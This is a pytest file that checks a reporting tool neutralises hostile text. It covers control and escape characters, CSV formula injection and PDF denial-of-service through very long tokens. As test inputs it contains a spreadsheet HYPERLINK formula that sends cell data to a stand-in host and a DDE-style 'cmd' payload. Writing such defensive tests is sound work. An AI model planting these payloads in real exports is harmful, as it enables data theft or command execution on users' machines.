"""Hostile text in a run: every output neutralises it, and no report can be held hostage.

Issue 10: control characters (NUL, ESC, U+202E, U+FFFE) reached HTML, PDF and the terminal
raw; CSV cells starting with ``=`` ``+`` ``-`` ``@`` were written unchanged; a 16 KB token
made the PDF take 42 s, 64 KB 200 s, 1 MB never finished.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import time
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest

from sdet_check.api import RunRequest, evaluate
from sdet_check.compare import Weights, compare_runs
from sdet_check.errors import SdetCheckError
from sdet_check.probe import Evidence, Outcome, Probe, ProbeContext
from sdet_check.registry import ProbeRegistry
from sdet_check.reporters import REPORTERS, reporter_for
from sdet_check.reporters.comparison import render_comparison_csv
from sdet_check.reporters.document import html_to_pdf

from ..documents import pdf_bytes_text
from ..unit.conftest import ALL_FAKES, EXTRA_FAKES, copy_probe_grid

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = "début\x00NUL \x1b[2J\x1b]0;titre\x07 \u202eesrever\u202c \ufffe \x85 \x9b31m \rfin"
RAW = ("\x00", "\x1b", "\u202e", "\ufffe", "\x85", "\x9b", "\x07", "\r")


class HostileProbe(Probe):
    """Echoes what the test puts in its params: a message, a header value, a cookie name."""

    kind = "fake.echo_params"
    title = "écho"

    def check(self, params: Mapping[str, Any], context: ProbeContext) -> Outcome:
        text = context.target.raw.get("editor", "")
        return Outcome.failed(
            f"Location: {text}",
            Evidence("http_exchange", f"Set-Cookie: {text}=1", {"location": text}),
        )


def _record(tmp_path: Path, text: str, name: str = "ENT hostile") -> dict[str, Any]:
    folder = tmp_path / f"run-{len(list(tmp_path.iterdir()))}"
    folder.mkdir()
    target = folder / "cible.yaml"
    target.write_text(
        "format: 1\n"
        f"name: {json.dumps(name)}\n"
        f"editor: {json.dumps(text)}\n"
        f"solution_version: {json.dumps(text[:200])}\n"
        "degrees: [2d]\n",
        encoding="utf-8",
    )
    grid = copy_probe_grid(folder, ["fake.echo_params"])
    return evaluate(
        RunRequest(target=target, grid=str(grid)),
        registry=ProbeRegistry((*ALL_FAKES, *EXTRA_FAKES, HostileProbe)),
        environ={},
    )


def test_control_characters_reach_no_output_raw_and_json_stays_faithful(
    tmp_path: Path,
) -> None:
    record = _record(tmp_path, HOSTILE, name=f"ENT {HOSTILE}")
    # Controls from the target file itself (not a probe) are kept in the record as they are.
    assert record["target"]["solution_version"] == HOSTILE
    for name in REPORTERS:
        rendered = reporter_for(name).render(record, "fr")
        if name == "json":
            assert json.loads(rendered)["target"]["solution_version"] == HOSTILE
            continue
        text = pdf_bytes_text(rendered) if name == "pdf" else rendered.decode("utf-8")
        for char in RAW:
            assert char not in text, f"{name} laisse passer U+{ord(char):04X}"
        assert "\\x1b[2J" in text or name == "pdf", name
    html = reporter_for("html").render(record, "fr").decode()
    assert "\\u202e" in html and "\\x00" in html


def test_terminal_of_report_shows_escapes_instead_of_running_them(tmp_path: Path) -> None:
    record = _record(tmp_path, HOSTILE, name=f"ENT {HOSTILE}")
    run = tmp_path / "run.json"
    run.write_bytes(reporter_for("json").render(record))
    done = subprocess.run(
        [sys.executable, "-m", "sdet_check", "report", str(run)],
        capture_output=True, text=True, timeout=120, cwd=tmp_path,
        env={"PATH": "/usr/bin:/bin", "COLUMNS": "200", "PYTHONPATH": str(ROOT)},
    )  # fmt: skip
    assert done.returncode in (1, 2), done.stderr
    for char in RAW:
        assert char not in done.stdout + done.stderr, f"U+{ord(char):04X} envoyé au terminal"
    assert "\\x1b[2J" in done.stdout


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_a_spreadsheet_would_evaluate_are_kept_as_text(
    tmp_path: Path, start: str
) -> None:
    formula = f'{start}HYPERLINK("http://x.invalid/?"&A1,"clic")'
    first = _record(tmp_path, formula, name=f"{start}cmd|' /C calc'!A0")
    rows = list(csv.reader(io.StringIO(reporter_for("csv").render(first).decode("utf-8-sig"))))
    message = rows[1][8]
    assert message == "Location: " + formula.replace("\r", "\\x0d")  # not at the start
    second = _record(tmp_path, "ok", name="=SOMME(A1:A9)")
    comparison = compare_runs([first, second], Weights(), ["a/run.json", "b/run.json"])
    table = list(csv.reader(io.StringIO(render_comparison_csv(comparison).decode("utf-8-sig"))))
    cells = [cell for row in table for cell in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == [], dangerous
    assert f"'{start}cmd|' /C calc'!A0".replace("\r", "\\x0d") in cells
    assert "'=SOMME(A1:A9)" in cells


def test_csv_cell_starting_a_row_with_a_formula_is_prefixed(tmp_path: Path) -> None:
    record = _record(tmp_path, "x")
    record["results"][0]["message"] = "=1+1"
    rows = list(csv.reader(io.StringIO(reporter_for("csv").render(record).decode("utf-8-sig"))))
    assert rows[1][8] == "'=1+1"


@pytest.mark.parametrize("size", [16 * 1024, 64 * 1024, 1024 * 1024])
def test_long_unbroken_tokens_render_a_pdf_in_seconds(tmp_path: Path, size: int) -> None:
    """A Location header and a cookie name of ``size`` characters, as a target sent them."""
    record = _record(tmp_path, "A" * size)
    started = time.monotonic()
    pdf = reporter_for("pdf").render(record, "fr")
    elapsed = time.monotonic() - started
    print(f"jeton de {size} caractères : PDF en {elapsed:.1f} s")
    assert pdf.startswith(b"%PDF") and elapsed < 30
    html = reporter_for("html").render(record, "fr").decode()
    assert "A" * 101 not in html  # broken into breakable pieces before layout
    assert "caractères de plus : voir run.json" in html


def test_pdf_time_limit_gives_a_clear_error_not_a_hang(tmp_path: Path) -> None:
    started = time.monotonic()
    with pytest.raises(SdetCheckError) as caught:
        html_to_pdf("<p>x</p>" * 20000, identifier="x", timeout_s=0.05)
    assert time.monotonic() - started < 10
    assert "SDET_CHECK_PDF_TIMEOUT_S" in str(caught.value)
    record = _record(tmp_path, "x")
    run = tmp_path / "run.json"
    run.write_bytes(reporter_for("json").render(record))
    done = subprocess.run(
        [sys.executable, "-m", "sdet_check", "report", str(run), "--format", "pdf",
         "--format", "html", "--out", str(tmp_path / "out")],
        capture_output=True, text=True, timeout=120, cwd=tmp_path,
        env={"PATH": "/usr/bin:/bin", "NO_COLOR": "1", "COLUMNS": "200",
             "PYTHONPATH": str(ROOT), "SDET_CHECK_PDF_TIMEOUT_S": "0.05"},
    )  # fmt: skip
    assert done.returncode == 3, done.stderr
    message = " ".join(done.stderr.split())
    assert "le PDF n'a pas été produit en 0.05 s" in message
    assert "Traceback" not in done.stderr
